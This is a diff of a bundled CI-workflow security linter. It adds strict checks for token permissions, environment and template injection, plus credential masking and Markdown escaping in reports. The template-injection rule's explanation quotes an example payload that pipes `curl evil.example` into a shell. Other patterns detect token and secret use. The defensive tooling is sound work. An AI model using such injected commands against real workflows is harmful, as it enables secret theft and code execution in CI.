+    return run && shellLanguage(step) === 'powershell' ? powershellDownloads(run.string, (part) => spanWithin(run, document.text, part)) : [];
 }
 
 ;// CONCATENATED MODULE: ./lib/rules/workflow/download-then-run.js
@@ -53431,7 +53751,26 @@ jobs:
     },
 }));
 
+;// CONCATENATED MODULE: ./lib/documents/token-use.js
+
+/** Actions that do nothing with the token but read. */
+const readers = /^actions\/(?:setup-[\w-]+|cache(?:\/\w+)?|upload-artifact|download-artifact|checkout)$|^docker\/setup-[\w-]+$/;
+const token_use_token = /\bgithub\s*(?:\.\s*token|\[\s*'token'\s*\])|\bsecrets\s*(?:\.|\[\s*')\s*github_token\b|\btojson\s*\(\s*(?:github|secrets)\s*\)/i;
+/**
+ * Whether a step of the job may use a scope of the token. A script has the token only if an expression gives it, or if a checkout has left it to git,
+ * which reads and writes contents; an action can take it by itself. The token of OpenID Connect is in the environment of every step.
+ */
+function mayUse(job, scope) {
+    if (scope === 'id-token' || job.steps.length === 0)
+        return true;
+    const given = [job.at('env'), job.workflow.at('env')].some((env) => [...entriesOf(env)].some(({ value }) => token_use_token.test(value.string ?? '')));
+    return given || job.steps.some((step) => hasToken(step) || (scope === 'contents' && leavesToken(step)));
+}
+const hasToken = ({ reference, uses, node, document }) => (uses !== null && !readers.test(reference?.name ?? '')) || token_use_token.test(document.text.slice(node.span));
+const leavesToken = ({ reference, at }) => reference?.name === 'actions/checkout' && at('with', 'persist-credentials')?.string !== 'false';
+
 ;// CONCATENATED MODULE: ./lib/rules/workflow/excessive-permissions.js
+
 
 
 
@@ -53439,6 +53778,7 @@ jobs:
     id: 'workflow/excessive-permissions',
     severity: 'high',
     threat: 'access',
+    strictly: '`read-all`, a scope that writes given to a workflow of one job, and one given to a job in which no step has the token, as low.',
     summary: 'The token of the workflow may write more than a job needs',
     why: 'Every step of every job, and every action in them, can use the token: one bad dependency is enough to push code, publish packages or approve pull requests.',
     instead: 'Grant `contents: read` or nothing to the workflow, and each scope that writes to the one job that needs it.',
@@ -53464,7 +53804,8 @@ jobs:
   release:
     runs-on: ubuntu-24.04
     steps:
-      - run: make release
+      - env: {GH_TOKEN: '\${{ github.token }}'}
+        run: gh release create v1
 `,
     good: `
 on: push
@@ -53480,15 +53821,18 @@ jobs:
     permissions:
       contents: write
     steps:
-      - run: make release
+      - env: {GH_TOKEN: '\${{ github.token }}'}
+        run: gh release create v1
 `,
     on: 'workflow',
     *check(workflow, { strict }) {
         const permissions = workflow.at('permissions');
         yield* allScopes(permissions, strict);
-        for (const job of workflow.jobs)
-            for (const report of allScopes(job.at('permissions'), strict))
+        for (const job of workflow.jobs) {
+            const own = job.at('permissions');
+            for (const report of [...allScopes(own, strict), ...(strict ? unusedScopes(job) : [])])
                 yield { ...report, subject: job.subject };
+        }
         const shared = jobsWithout(workflow);
         for (const { key, value, access } of grantedScopes(permissions)) {
             // With a single job the scope is granted where it is needed, only not beside it.
@@ -53504,6 +53848,19 @@ function* allScopes(permissions, strict) {
         yield { at: permissions, message: 'the token may write everything ("write-all")' };
     if (permissions?.value === 'read-all' && strict)
         yield { at: permissions, severity: 'low', message: 'the token may read everything ("read-all")' };
+}
+/** Scopes that no step of the job can use, as none is given the token. */
+function* unusedScopes(job) {
+    for (const { key, value, access } of grantedScopes(job.at('permissions'))) {
+        if (access !== 'write' || mayUse(job, key.string))
+            continue;
+        yield {
+            at: value,
+            field: key.string,
+            severity: 'low',
+            message: `job "${job.id}" may write "${key.string}", and no step of it has the token`,
+        };
+    }
 }
 /** Jobs that take the permissions of the workflow. */
 const jobsWithout = ({ jobs }) => jobs.filter((job) => job.at('permissions') === undefined).length;
@@ -53726,6 +54083,8 @@ class Trace {
         if (context === 'steps')
             return this.#stepOutput(name, output, scope);
         const job = context === 'needs' ? jobNamed(name, scope) : undefined;
+        if (job?.at('uses'))
+            return this.#sources.output(job.at('uses')?.string ?? '', output);
         return job ? this.text(caselessValue(job.at('outputs'), output), { ...scope, job, step: null }) : null;
     }
     /** The value that a variable has in a step is the step's, the job's or the workflow's, of which the nearest counts. */
@@ -53749,7 +54108,11 @@ class Trace {
             return this.#sources.output(step.reference.name, output);
         const writes = stepCommands(step).filter((command) => writesOutput(command, output));
         const names = writes.flatMap(({ words }) => words.flatMap((word) => variablesIn(word.value)));
-        return firstOf(names, (name) => this.variable(name, { ...scope, step }));
+        const written = firstOf(names, (name) => this.variable(name, { ...scope, step }));
+        if (written !== null || this.#sources.script === undefined)
+            return written;
+        const isFixed = writes.length > 0 && writes.every(({ words }) => words.every(({ literal }) => literal));
+        return isFixed ? null : this.#sources.script;
     }
 }
 const jobsByName = new WeakMap();
@@ -53786,8 +54149,9 @@ function writesOutput({ words, redirections }, output) {
 /**
  * Follows text of strangers through the variables of a script, from the first command to the last.
  * @param foreignFiles what the files are that others have put into the working directory, or null where there are none
+ * @param unknown what text is called that the script does not fix, where it is to be told; else null
  */
-function* environmentWrites(step, sources, foreignFiles) {
+function* environmentWrites(step, sources, foreignFiles, unknown = null) {
     const tainted = new Map();
     const sourceOf = (text) => writtenSource(text, scopeOf(step), sources) ??
         variablesIn(text)
@@ -53805,11 +54169,13 @@ function* environmentWrites(step, sources, foreignFiles) {
         if (file === null)
             continue;
         const data = [...command.pipedFrom, command].map(dataOf(step)).join('\n');
-        const source = sourceOf(data);
+        const source = sourceOf(data) ?? (varies(data) ? unknown : null);
         if (source !== null)
             yield { span: command.span, file, source };
     }
 }
+/** Holds the output of a command, or a variable that the runner does not set itself. */
+const varies = (text) => /\$\(|`/.test(text) || variablesIn(text).some((name) => !/^(?:GITHUB|RUNNER)_|^(?:HOME|PATH|PWD)$/.test(name));
 /** A command, in a substitution or not, whose output is a file's text. */
 const environment_files_readsFile = /(?:^|[\n;|&(`])\s*(?:cat|head|tail|jq|yq|sed|awk|grep|cut)\s|\$\(\s*<|<\s*[\w./]/;
 const dataOf = (step) => ({ span, redirections }) => [step.document.text.slice(span), ...redirections.map(({ heredoc }) => heredoc?.text ?? '')].join('\n');
@@ -53874,6 +54240,7 @@ const events = [
     id: 'workflow/github-env-injection',
     severity: 'high',
     threat: 'access',
+    strictly: 'whatever a composite action writes there that its script does not fix, as low.',
     summary: 'Text of a stranger sets the environment of the job',
     why: 'A line break in it starts another variable: `LD_PRELOAD`, `NODE_OPTIONS` or a folder on the PATH make every later step run their code.',
     instead: 'Hand the value over as an output of the step, or check first that it has the form that it should have.',
@@ -53911,11 +54278,15 @@ jobs:
           [[ "$TITLE" =~ ^[A-Za-z0-9\\ ]+$ ]] && echo "title=$TITLE" >> "$GITHUB_OUTPUT"
 `,
     on: 'step',
-    *check(step) {
+    *check(step, { strict }) {
         if (step.action === null && eventsOf(step, events).length === 0)
             return;
-        for (const { span, file, source } of environmentWrites(step, step.action ? inputsToo : strangers, foreignFiles(step)))
-            yield { at: { span }, severity: step.action ? 'medium' : 'high', message: `${source} is written to ${file}` };
+        // Nor does a composite action know what its commands find in the repository that calls it.
+        const unknown = step.action && strict ? 'text that is not fixed' : null;
+        for (const { span, file, source } of environmentWrites(step, step.action ? inputsToo : strangers, foreignFiles(step), unknown)) {
+            const severity = source === unknown ? 'low' : step.action ? 'medium' : 'high';
+            yield { at: { span }, severity, message: `${source} is written to ${file}` };
+        }
     },
 }));
 const strangers = { context: untrustedContext, output: untrustedOutput };
@@ -54170,6 +54541,7 @@ function computedConstant(expression) {
     id: 'workflow/permissions-missing',
     severity: 'medium',
     threat: 'access',
+    strictly: 'workflows that are only called by others, and have at most what their callers give, as low.',
     summary: 'A workflow does not say what its token may do',
     why: 'The default of the repository then holds. In repositories and organizations from before 2023 that is the right to write nearly everything.',
     instead: 'Write `permissions: {contents: read}` at the top of the workflow, and add scopes to the jobs that need them.',
@@ -54207,8 +54579,9 @@ jobs:
 `,
     on: 'workflow',
     guard: (workflow) => workflow.root.entry('permissions'),
-    *check(workflow) {
-        if (isSaid(workflow) || isOnlyCalled(workflow))
+    *check(workflow, { strict }) {
+        const isCalled = isOnlyCalled(workflow);
+        if (isSaid(workflow) || (isCalled && !strict))
             return;
         const without = workflow.jobs.filter((job) => !isSaid(job));
         const [first] = without;
@@ -54219,7 +54592,7 @@ jobs:
             ? 'neither the workflow nor its jobs say what the token may do'
             : `the workflow and its jobs ${without.map((job) => `"${job.id}"`).join(', ')} do not say what the token may do`;
         const fix = unsafeFix('Let the token read the repository only', readOnly(workflow));
-        yield { at: first, field: 'permissions', identity: '', message, fix };
+        yield { at: first, field: 'permissions', identity: '', ...(isCalled && { severity: 'low' }), message, fix };
     },
 }));
 /** A key without a value grants nothing and takes nothing away. */
@@ -54725,6 +55098,43 @@ function static_publish_credential_isPublic({ at, job }, to, written) {
     return host === undefined || publicHosts.test(host);
 }
 
+;// CONCATENATED MODULE: ./lib/documents/open-contexts.js
+
+/** Contexts that GitHub fills by itself, and secrets and variables, which only people who may change the workflow set. */
+const own = /^(?:runner|strategy|job|secrets|vars)(?:\.|$)/;
+/** By GitHub's reference of contexts: numbers, hashes, addresses, login names, paths on the runner, words from a list. */
+const ofGitHub = new Set(`action action_path action_ref action_status actor actor_id api_url env event_name event_path graphql_url job path output ref_protected ref_type
+  repository_id repository_owner_id retention_days run_attempt run_id run_number secret_source server_url sha state step_summary token
+  triggering_actor workflow_sha workspace`.split(/\s+/));
+/** Properties of events that are numbers, hashes, times, addresses, switches or words from a list, by GitHub's webhook payloads. */
+const ofEvents = /(?:^|_)(?:id|number|sha|at|count|urls?)$|^(?:action|additions|after|archived|before|changed_files|conclusion|created|deleted|deletions|draft|event|fork|forced|locked|login|merged|private|run_attempt|size|state|status|type|visibility|author_association)$/;
+/** Outputs that are switches, keys or hashes by their name. */
+const ofActions = /(?:^|[-_])(?:hit|sha|hash|digest|digests|id|number|count|port|time|exists|changed|conclusion|outcome|result|imageid)$/i;
+/** Whatever text is not fixed by the workflow or by its form, whoever writes it: names of branches, inputs, outputs of actions and scripts. */
+const openText = (workflow) => ({
+    context({ path }) {
+        const name = path.join('.');
+        const [context, property = '', third = ''] = path;
+        if (context === 'inputs')
+            return open_contexts_isText(workflow, property) ? name : null;
+        if (context !== 'github' || own.test(name))
+            return null;
+        if (property !== 'event')
+            return ofGitHub.has(property) ? null : name;
+        if (third === 'inputs')
+            return open_contexts_isText(workflow, path[3] ?? '') ? name : null;
+        return ofEvents.test(path.at(-1) ?? '') ? null : name;
+    },
+    output: (action, output) => (ofActions.test(output) ? null : `${action}, output ${output}`),
+    script: 'the output of a script',
+});
+/** An input that is no switch, number or choice. Those of a composite action are not asked about here. */
+function open_contexts_isText(workflow, name) {
+    const events = ['workflow_dispatch', 'workflow_call'].map((event) => workflow?.triggers.get(event)?.node?.at('inputs'));
+    const declared = events.flatMap((inputs) => caselessValue(inputs, name) ?? []);
+    return workflow !== null && declared.every((input) => !/^(?:boolean|number|choice)$/.test(input.at('type')?.string ?? ''));
+}
+
 ;// CONCATENATED MODULE: ./lib/documents/posix-quoting.js
 /** Reads the word up to `offset`; substitutions inside it are not looked into: null where one is open there. */
 function quotingAt(word, offset) {
@@ -54800,7 +55210,7 @@ function quotingOf(step, place) {
     const inner = words.reduce((best, word) => (!best || script_fix_length(word) < script_fix_length(best) ? word : best), undefined);
     if (!inner || words.some(({ command }) => runsText(command)))
         return null;
-    return quotingAt(workflow_shell_maskExpressions(step.document.text.slice(inner.span)), place.start - inner.span.start);
+    return quotingAt(maskExpressions(step.document.text.slice(inner.span)), place.start - inner.span.start);
 }
 const script_fix_length = ({ span }) => span.end - span.start;
 /** Words of the script and of the substitutions in it. */
@@ -54837,10 +55247,12 @@ function freeName(step, wanted, value) {
 
 
 
+
 /* harmony default export */ const template_injection = (defineRule({
     id: 'workflow/template-injection',
     severity: 'critical',
     threat: 'access',
+    strictly: 'every text in a script that neither the workflow nor its form fixes (names of branches, inputs, outputs of steps), as low.',
     summary: 'Text that a stranger writes becomes part of a script',
     why: 'The runner puts the text into the script before any shell reads it: a title such as `"; curl evil.example | sh; "` is then a command, with the secrets and the token of the job.',
     instead: 'Give the value to the step in `env`, and read that variable in the script, in double quotes.',
@@ -54884,23 +55296,31 @@ jobs:
           echo "New issue: \${TITLE}"
 `,
     on: 'workflowExpression',
-    *check(found) {
+    *check(found, { strict }) {
         const { expression, step } = found;
         if (!expression || !step || !isCode(found))
             return;
-        for (const { span, path, source } of untrustedParts(expression, found)) {
+        const strangers = untrustedParts(expression, found);
+        const becomes = `becomes part of the ${found.scalar === step.run ? 'script' : 'code'}`;
+        for (const { span, path, source } of strangers) {
             const read = path.join('.');
             const origin = read === source ? '' : `, which holds ${source},`;
             yield {
                 at: { span: found.placeOf(span) },
                 severity: runsWithoutSecrets(found) ? 'high' : 'critical',
-                message: `"${read}"${origin} is text of a stranger and becomes part of the ${found.scalar === step.run ? 'script' : 'code'}`,
+                message: `"${read}"${origin} is text of a stranger and ${becomes}`,
                 fix: template_injection_fixFor(found, path),
             };
         }
         for (const { span, path } of callerInputs(found, expression)) {
-            const message = `the input "${path[1] ?? ''}" becomes part of the ${found.scalar === step.run ? 'script' : 'code'}, and a caller may put text of a stranger into it`;
+            const message = `the input "${path[1] ?? ''}" ${becomes}, and a caller may put text of a stranger into it`;
             yield { at: { span: found.placeOf(span) }, severity: 'medium', message, fix: template_injection_fixFor(found, path) };
+        }
+        for (const { span, path } of strict ? untrustedParts(expression, found, openText(found.workflow)) : []) {
+            if (strangers.some((known) => known.span.start === span.start))
+                continue;
+            const message = `"${path.join('.')}" ${becomes}, and nothing here fixes its text`;
+            yield { at: { span: found.placeOf(span) }, severity: 'low', message, fix: template_injection_fixFor(found, path) };
         }
     },
 }));
@@ -54921,7 +55341,7 @@ const runsWithoutSecrets = ({ workflow }) => {
     return events.length > 0 && events.every((event) => event === 'pull_request');
 };
 function template_injection_fixFor({ step, text, scalar }, path) {
-    if (!step || scalar !== step.run || workflow_shell_shellLanguage(step) !== 'posix')
+    if (!step || scalar !== step.run || shellLanguage(step) !== 'posix')
         return undefined;
     const words = path.filter((word) => !['github', 'event', 'steps', 'outputs', '*'].includes(word));
     const name = words.join('_').replace(/\W/g, '_').toUpperCase();
@@ -55319,7 +55739,7 @@ function fetched(step) {
             continue;
         const written = text(args);
         const head = pullRequestRef.test(written) || writtenSource(written, scopeOf(step), pullRequestHead) !== null;
-        const isFetch = subcommand(args) === 'fetch' && takes.length > 0;
+        const isFetch = subcommand(args) === 'clone' || (subcommand(args) === 'fetch' && takes.length > 0);
         if (head && (isFetch || takes.some((take) => take.command === command)))
             return command;
     }
@@ -55329,6 +55749,8 @@ function fetched(step) {
 const subcommand = (args) => args.find(({ value }, index) => !value.startsWith('-') && !/^-[Cc]$/.test(args[index - 1]?.value ?? ''))?.value ?? '';
 
 ;// CONCATENATED MODULE: ./lib/rules/index.js
+
+
 
 
 
@@ -55526,6 +55948,7 @@ const rules = [
     unpinned_package,
     workdir_system_directory,
     world_writable,
+    gate_changed,
     policy_changed,
     waiver_added,
     waiver_expired,
@@ -55604,6 +56027,7 @@ const rules = [
     default_login,
     default_password,
     in_history,
+    in_image_layer,
     kubernetes_secret,
     password_argument,
     password_hash,
@@ -55759,6 +56183,251 @@ function parseMarker(body) {
 /** Twenty fingerprints of 64 digits, with room to spare. */
 const markerMost = 4096;
 
+;// CONCATENATED MODULE: ./lib/reporters/mask.js
+
+
+/** Stands for a credential; its length says nothing. */
+const mask = '********';
+const mask_known = new WeakMap();
+/** One seamless list for each place's masks, so that no seam shows where one credential ends. */
+function joinedMasks(masks) {
+    const spans = mask_known.get(masks) ?? joined(masks);
+    mask_known.set(masks, spans);
+    return spans;
+}
+/** The text of a span with every credential in it, or in part in it, as `********`. */
+function masked({ text, masks }, span) {
+    let result = '';
+    let from = span.start;
+    const spans = joinedMasks(masks);
+    for (let at = firstFrom(spans, span.start); at < spans.length; at++) {
+        const hidden = spans[at];
+        if (hidden === undefined || hidden.start >= span.end)
+            break;
+        if (hidden.end <= from)
+            continue;
+        result += text.value.slice(from, Math.max(from, hidden.start)) + mask;
+        from = hidden.end;
+    }
+    return result + text.value.slice(from, Math.max(from, span.end));
+}
+const touchesMask = ({ masks }, span) => masks.some((hidden) => overlaps(hidden, span));
+/** Credentials of the file that new text repeats word for word. Very short ones are taken for chance. */
+const mask_repeated = ({ text, masks }, written) => masks
+    .filter(({ start, end }) => end - start >= 4)
+    .map((hidden) => text.slice(hidden))
+    .filter((value) => written.includes(value));
+const repeatsMask = (place, written) => mask_repeated(place, written).length > 0;
+/** Text to be written into the file, with what it repeats of the file's credentials as `********`. */
+const withoutRepeats = (place, written) => mask_repeated(place, written).reduce((text, value) => text.replaceAll(value, mask), written);
+
+;// CONCATENATED MODULE: ./lib/reporters/visible.js
+/** Control, format (bidirectional, zero-width), private and unpaired surrogate characters: what a terminal obeys or a reader cannot see. */
+const visible_hidden = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}]/u;
+const allHidden = new RegExp(visible_hidden.source, 'gu');
+const visible_named = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
+/** One character as text that shows which it is: `\x1b`, `\u202e`, `\u{e0001}`. */
+function spelled(character) {
+    const code = character.codePointAt(0) ?? 0;
+    if (code <= 0xff)
+        return `\\x${code.toString(16).padStart(2, '0')}`;
+    return code <= 0xffff ? `\\u${code.toString(16).padStart(4, '0')}` : `\\u{${code.toString(16)}}`;
+}
+const isHidden = (character) => visible_hidden.test(character);
+/** One line of text in which nothing is hidden and nothing is obeyed; a tab is a space. */
+const visible = (text) => text.replaceAll('\t', ' ').replace(allHidden, (character) => visible_named[character] ?? spelled(character));
+/** At most `length` UTF-16 units, the last of them `…` if something was cut. */
+function shortened(text, length) {
+    if (text.length <= length)
+        return text;
+    const end = length - 1;
+    return `${text.slice(0, isLowSurrogate(text, end) ? end - 1 : end)}…`;
+}
+const isLowSurrogate = (text, at) => (text.charCodeAt(at) & 0xfc00) === 0xdc00;
+/** Columns a terminal gives a character: none for a combining mark, two for East Asian wide ones and emoji. */
+function columns(character) {
+    const code = character.codePointAt(0) ?? 0;
+    if (code < 0x300)
+        return 1;
+    if (/\p{M}/u.test(character))
+        return 0;
+    return wide.some(([first, last]) => code >= first && code <= last) || /\p{Emoji_Presentation}/u.test(character) ? 2 : 1;
+}
+/** Unicode Standard Annex 11, the blocks of East_Asian_Width W and F; unassigned code points in them included. */
+const wide = [
+    [0x1100, 0x115f],
+    [0x2e80, 0x303e],
+    [0x3041, 0x33ff],
+    [0x3400, 0x4dbf],
+    [0x4e00, 0xa4cf],
+    [0xa960, 0xa97f],
+    [0xac00, 0xd7a3],
+    [0xf900, 0xfaff],
+    [0xfe30, 0xfe6f],
+    [0xff00, 0xff60],
+    [0xffe0, 0xffe6],
+    [0x17000, 0x18d8f],
+    [0x1b000, 0x1b2ff],
+    [0x20000, 0x3fffd],
+];
+function visible_width(text) {
+    let sum = 0;
+    for (const character of text)
+        sum += columns(character);
+    return sum;
+}
+/** Lines of at most `limit` columns, broken at spaces; a longer word is broken where it must be. */
+function wrapped(text, limit) {
+    const lines = [];
+    let line = '';
+    for (const word of text.split(' ')) {
+        const joined = line === '' ? word : `${line} ${word}`;
+        if (visible_width(joined) <= limit) {
+            line = joined;
+            continue;
+        }
+        if (line !== '')
+            lines.push(line);
+        const pieces = broken(word, limit);
+        line = pieces.pop() ?? '';
+        lines.push(...pieces);
+    }
+    return [...lines, line];
+}
+function broken(word, limit) {
+    const pieces = [];
+    let piece = '';
+    let used = 0;
+    for (const character of word) {
+        const more = columns(character);
+        if (used + more > limit && piece !== '') {
+            pieces.push(piece);
+            piece = '';
+            used = 0;
+        }
+        piece += character;
+        used += more;
+    }
+    return [...pieces, piece];
+}
+
+;// CONCATENATED MODULE: ./lib/reporters/frame.js
+
+
+
+const tabStop = 4;
+/** More combining marks than this on one character are spelled out. */
+const marksEach = 4;
+/** A span of more lines is shown by its first two and its last. */
+const linesWhole = 4;
+/** First and last line of a span; a span that ends with a line break does not reach the next line. */
+function lineRange(text, span) {
+    const first = text.position(span.start).line;
+    const last = text.position(Math.max(span.start, span.end)).line;
+    const before = last > first && text.position(span.end).column === 1 ? last - 1 : last;
+    return { first, last: before };
+}
+/** The lines of a place with carets under its span. Work is bounded by the width, not by the length of a line. */
+function frame_frame(place, options) {
+    const { text, span } = place;
+    const masks = joinedMasks(place.masks);
+    const { first, last } = lineRange(text, span);
+    const rows = [];
+    const context = (from, to) => {
+        for (let number = Math.max(1, from); number <= Math.min(to, lastLine(text)); number++) {
+            rows.push({ kind: 'context', number, text: shownLine(text, number, masks, null, options.width).line });
+        }
+    };
+    context(first - options.context, first - 1);
+    for (let number = first; number <= last; number++) {
+        if (last - first >= linesWhole && number === first + 2) {
+            rows.push({ kind: 'gap', number: null, text: `${last - first - 2} more lines` });
+            number = last;
+        }
+        const { line, carets } = shownLine(text, number, masks, span, options.width);
+        rows.push({ kind: 'line', number, text: line });
+        if (carets !== '')
+            rows.push({ kind: 'carets', number: null, text: carets });
+    }
+    context(last + 1, last + options.context);
+    return rows;
+}
+/** One line, masked, with hidden characters spelled out, cut to the width. */
+const lineText = (place, number, width) => shownLine(place.text, number, joinedMasks(place.masks), null, width).line;
+/** One line of text without credentials, in the same way. */
+const shownText = (text, width) => lineText({ text: new SourceText('', text), masks: [] }, 1, width);
+/** A final line break opens no line that anybody would count. */
+const lastLine = (text) => {
+    const end = text.line(text.lineCount);
+    return text.lineCount > 1 && end.start === text.value.length ? text.lineCount - 1 : text.lineCount;
+};
+function shownLine(text, number, masks, span, width) {
+    const line = text.line(number);
+    const from = span === null ? line.start : windowStart(text, line, span, width);
+    const before = from > line.start ? '…' : '';
+    const whole = cellsOf(text.value, { start: from, end: line.end }, masks, width - before.length);
+    const isCut = (whole.at(-1)?.end ?? from) < line.end;
+    // The mark of a cut takes a column too.
+    const cells = isCut ? cellsOf(text.value, { start: from, end: line.end }, masks, width - before.length - 1) : whole;
+    const after = isCut ? '…' : '';
+    return {
+        line: before + cells.map((cell) => cell.shown).join('') + after,
+        carets: span === null ? '' : caretsUnder(cells, span, before.length),
+    };
+}
+/** The line's start if the line is short, else a third of a width before the span. */
+function windowStart(text, line, span, width) {
+    if (line.end - line.start <= width || span.start - line.start <= width / 2)
+        return line.start;
+    const start = Math.max(line.start, span.start - Math.floor(width / 3));
+    return isLowSurrogate(text.value, start) ? start + 1 : start;
+}
+function cellsOf(value, range, masks, width) {
+    const cells = [];
+    let used = 0;
+    let marks = marksEach;
+    let next = masks.findIndex((hidden) => hidden.end > range.start);
+    for (let at = range.start; at < range.end;) {
+        const hidden = next < 0 ? undefined : masks[next];
+        const inMask = hidden !== undefined && hidden.start <= at;
+        const character = String.fromCodePoint(value.codePointAt(at) ?? 0);
+        const end = inMask ? Math.min(hidden.end, range.end) : at + character.length;
+        const plain = inMask ? mask : shownCharacter(character, used, marks);
+        const taken = plain === character ? columns(character) : plain.length;
+        if (used + taken > width)
+            break;
+        marks = taken === 0 ? marks + 1 : 0;
+        used += taken;
+        cells.push({ start: at, end, shown: plain, columns: taken });
+        if (inMask)
+            next = next + 1 < masks.length ? next + 1 : -1;
+        at = end;
+    }
+    return cells;
+}
+function shownCharacter(character, column, marks) {
+    if (character === '\t')
+        return ' '.repeat(tabStop - (column % tabStop));
+    if (isHidden(character))
+        return spelled(character);
+    return columns(character) === 0 && marks >= marksEach ? spelled(character) : character;
+}
+/** An empty span gets one caret, at the end of the line if need be. Blanks that lead a line of a longer span get none. */
+function caretsUnder(cells, span, indent) {
+    let line = ' '.repeat(indent);
+    let found = false;
+    for (const cell of cells) {
+        const inside = span.start === span.end ? cell.start <= span.start && span.start < cell.end : cell.start < span.end && span.start < cell.end;
+        const blank = !found && cell.shown.trim() === '' && cell.start > span.start;
+        const mark = inside && !blank;
+        found ||= mark;
+        line += (mark ? '^' : ' ').repeat(cell.columns);
+    }
+    if (found)
+        return line.trimEnd();
+    return span.start === span.end && span.start >= (cells.at(-1)?.end ?? span.start) ? `${line}^` : '';
+}
+
 ;// CONCATENATED MODULE: ./lib/reporters/anchor.js
 
 /** A span of more lines is commented on at its first line. */
@@ -55856,6 +56525,79 @@ function anchor_linesOf(hunk) {
     linesByHunk.set(hunk, lines);
     return lines;
 }
+
+;// CONCATENATED MODULE: ./lib/reporters/escape.js
+
+/**
+ * An empty character between two halves of what GitHub would make a link or a mention. It does that on the finished text, so that neither a backslash nor
+ * an entity for the character itself keeps it from doing so.
+ */
+const seam = '&#8203;';
+const entity = (character) => `&#${character.codePointAt(0)};`;
+/** What begins markup, at a line's start or anywhere; what GitHub links: references, mentions and addresses, addresses without a scheme, commit ids. */
+const live = /(?<start>^(?:[-+=]|\d+(?=[.)])))|(?<markup>[\\`*_~[\]<>|!&$])|(?<link>#(?=\w)|^#|@(?=\S)|GH-(?=\d)|:(?=\/\/)|(?:mailto|xmpp)(?=:)|www(?=\.))|(?<commit>(?<![0-9a-z])[0-9a-f]{7,40}(?![0-9a-z]))/gi;
+/** A value as one line of plain Markdown text: no markup, mention, reference, link, image, table cell or block can come out of it. */
+const escape_text = (value) => visible(value)
+    .trim()
+    .replace(live, (found, start, markup, _link, commit) => {
+    if (markup !== undefined || (start !== undefined && /\D/.test(start)))
+        return entity(found);
+    return commit === undefined ? found + seam : found.replace(/.{6}(?=.)/g, `$&${seam}`);
+});
+/** A value as code in one line. Not for table cells. */
+function escape_code(value) {
+    const plain = visible(value);
+    if (plain.trim() === '')
+        return '`(empty)`';
+    const ticks = '`'.repeat(longestRun(plain) + 1);
+    const pad = /^[ `]|[ `]$/.test(plain) ? ' ' : '';
+    return `${ticks}${pad}${plain}${pad}${ticks}`;
+}
+/** A value as code in a table cell, where a bar would end the cell even inside of back-ticks. */
+function cellCode(value) {
+    return value.includes('|') ? `<code>${escape_text(value)}</code>` : escape_code(value);
+}
+/** A message, whose values stand in double quotes and whose own words of code in back-ticks: those as code, the rest as text. */
+function message(value, quoted = escape_code) {
+    const parts = visible(value).split(/"([^"]+)"|`([^`]+)`/);
+    return parts
+        .flatMap((part, at) => {
+        if (at % 3 !== 0)
+            return part === undefined ? [] : [quoted(part)];
+        return [escape_between(part ?? '', at > 0 && at < parts.length - 1)];
+    })
+        .join('');
+}
+/** Words of our own, in which back-ticks mark code. */
+const prose = (value) => value
+    .split(/`([^`]+)`/)
+    .map((part, at) => (at % 2 === 1 ? escape_code(part) : escape_between(part, false)))
+    .join('');
+/** Two pieces of code with nothing between them would share their back-ticks. */
+function escape_between(part, inside) {
+    if (part.trim() === '')
+        return inside && part === '' ? seam : part;
+    return (part.startsWith(' ') ? ' ' : '') + escape_text(part) + (part.endsWith(' ') ? ' ' : '');
+}
+/** Lines as a block of code that none of them can end. */
+function fenced(lines, language = '') {
+    const fence = '`'.repeat(Math.max(3, longestRun(lines.join('\n')) + 1));
+    return [fence + language, ...lines, fence].join('\n');
+}
+function longestRun(value) {
+    return (value.match(/`+/g) ?? []).reduce((longest, run) => Math.max(longest, run.length), 0);
+}
+/** A link to an address of ours. */
+const escape_link = (label, url) => `[${label}](${escape_address(url)})`;
+/** The address with everything encoded that could end a link. */
+const escape_address = (url) => url.replace(/[\s()<>"'`\\|[\]]/g, (character) => encoded(character));
+/** A path as a part of an address. */
+const pathAddress = (path) => path
+    .replace(/\p{Surrogate}/gu, '\ufffd')
+    .split('/')
+    .map((name) => encodeURIComponent(name).replace(/[!'()*]/g, encoded))
+    .join('/');
+const encoded = (character) => `%${character.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`;
 
 ;// CONCATENATED MODULE: ./lib/reporters/fix-block.js
 
@@ -56167,10 +56909,10 @@ function commentBody(group, { rules, suggestion, removed, withPlace }) {
         findings.length === 1 ? single(findings[0], rules) : findings.map((finding, at) => item(finding, rules, at < whyMost)).join('\n'),
     ];
     if (withPlace)
-        parts.push(`Found at ${code(placeName(findings[0].at))}.`);
+        parts.push(`Found at ${escape_code(placeName(findings[0].at))}.`);
     parts.push(...removed.map(removedBlock));
     for (const { place, message: words } of findings.flatMap(({ related }) => related).slice(0, relatedMost)) {
-        parts.push(`See also ${code(placeName(place))}: ${message(shortened(words, messageLength))}`);
+        parts.push(`See also ${escape_code(placeName(place))}: ${message(shortened(words, messageLength))}`);
     }
     parts.push(...fixParts(group, rules, suggestion));
     parts.push(marker(findings.map(({ fingerprint }) => fingerprint)));
@@ -56179,7 +56921,7 @@ function commentBody(group, { rules, suggestion, removed, withPlace }) {
 const what = ({ severity, message: words }) => `**${severity}:** ${message(shortened(words, messageLength))}`;
 function ruleName(id, rules) {
     const url = rules(id)?.url;
-    return url === undefined ? code(id) : escape_link(code(id), url);
+    return url === undefined ? escape_code(id) : escape_link(escape_code(id), url);
 }
 function single(finding, rules) {
     const info = rules(finding.rule);
@@ -56192,7 +56934,7 @@ function item(finding, rules, withWhy) {
 function removedBlock(removed) {
     const { lines, more } = removedLines(removed, linesMost);
     return [
-        `Removed by this change, from ${code(placeName(removed))}:`,
+        `Removed by this change, from ${escape_code(placeName(removed))}:`,
         '',
         fenced([...lines.map(diffText), ...(more > 0 ? [`  … ${more} more`] : [])], 'diff'),
     ].join('\n');
@@ -56256,61 +56998,6 @@ class Page {
 const moreBytes = 64;
 const tableHead = (...titles) => `| ${titles.join(' | ')} |\n|${titles.map(() => ' --- |').join('')}`;
 const tableRow = (...cells) => `| ${cells.join(' | ')} |`;
-
-;// CONCATENATED MODULE: ./lib/reporters/words.js
-
-/** What the gate judges: introduced findings, in a scan all of them, without those that are waived. */
-const judged = (result) => result.findings.filter((finding) => finding.waived === null && finding.status === (result.mode === 'scan' ? 'existing' : 'introduced'));
-/** What somebody gave a reason for is told one by one; what a baseline names is many, and only counted. */
-function waivedFindings({ findings }) {
